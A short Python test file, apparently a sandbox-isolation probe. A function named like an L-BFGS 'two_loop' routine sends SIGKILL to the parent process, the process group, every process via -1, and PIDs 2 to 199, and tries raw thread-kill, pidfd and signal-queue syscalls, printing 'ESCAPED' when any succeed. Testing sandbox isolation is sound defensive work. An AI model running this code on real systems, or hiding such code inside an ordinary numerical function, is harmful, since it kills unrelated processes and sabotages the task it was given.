# attack: 34 signals to the zygote, its parent, its group
# what: signals everyone it can name
# expects: returned
# ruff: noqa

import ctypes
import os
import signal

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
TGKILL, TKILL, PIDFD_OPEN, QUEUE = 234, 200, 434, 129


def two_loop(g, S, Y, gamma=None):
    for target in (-1, 0, os.getppid(), -1000, *range(2, 200)):
        try:
            os.kill(target, signal.SIGKILL)
            print("ESCAPED: signalled", target)
        except OSError:
            pass
    for target in range(2, 200):
        if libc.syscall(TGKILL, target, target, 9) == 0 or libc.syscall(TKILL, target, 9) == 0:
            print("ESCAPED: signalled thread", target)
        if libc.syscall(PIDFD_OPEN, target, 0) >= 0 or libc.syscall(QUEUE, target, 9, None) == 0:
            print("ESCAPED: reached", target)
    return np.zeros_like(g)
